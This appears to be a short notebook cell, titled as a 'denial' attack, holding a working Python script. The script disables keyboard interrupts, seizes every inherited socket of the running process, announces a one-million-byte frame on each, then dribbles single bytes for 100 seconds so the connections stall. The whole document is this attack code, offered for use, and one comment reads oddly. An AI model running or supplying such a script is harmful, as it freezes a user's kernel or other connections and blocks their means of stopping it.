# %% [markdown]
# # **denial: sends a message byte by byte**
#
# Each second a few bytes of a frame that comes to no end, on every socket, so that there is always
# something to wait for; and no interrupt helps.

# %%
import os
import signal
import socket
import stat
import struct
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
found = []
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            one = socket.socket(fileno=os.dup(number))
            one.getpeername()
            if not one.getsockname():  # it is no kernel's, but speaks to itself
                continue
            one.settimeout(1)
            one.sendall(struct.pack(">BQ", 3, 1_000_000))
            found.append(one)
    except OSError:
        pass
end = time.time() + 100
while time.time() < end:
    for one in found:
        try:
            one.sendall(b"x")
        except OSError:
            pass
    time.sleep(0.2)
